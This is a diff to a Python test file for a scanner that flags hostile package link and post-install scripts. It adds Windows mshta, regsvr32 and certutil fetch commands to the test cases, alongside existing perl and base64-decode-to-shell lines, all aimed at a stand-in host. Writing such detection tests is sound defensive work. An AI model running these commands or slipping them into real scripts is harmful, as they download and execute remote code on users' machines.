@@ -102,6 +102,8 @@ HOSTILE_SCRIPTS = [
         "perl -e 'use LWP::Simple; eval get(\"http://x.example\")'",
         "link-script:inline-interpreter-fetch",
     ),
+    (BAT, "mshta http://x.example/a.hta", "link-script:fetch-pipe-shell"),
+    (BAT, "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "link-script:fetch-pipe-shell"),
     # decode and execute
     (POST_LINK, "echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | sh", "link-script:decode-exec"),
     (POST_LINK, 'eval "$(echo Y3VybA== | base64 --decode)"', "link-script:decode-exec"),
@@ -241,6 +243,9 @@ def test_plain_download_is_suspicious() -> None:
         "link-script:network-fetch": S
     }
     assert rules(POST_LINK, "pip install extra-thing") == {"link-script:network-fetch": S}
+    assert rules(BAT, "certutil -urlcache -split -f http://x.example/a a.bin") == {
+        "link-script:network-fetch": S
+    }
     assert rules(POST_LINK, 'if ! "$PREFIX/bin/pip" install x; then exit 1; fi') == {
         "link-script:network-fetch": S
     }
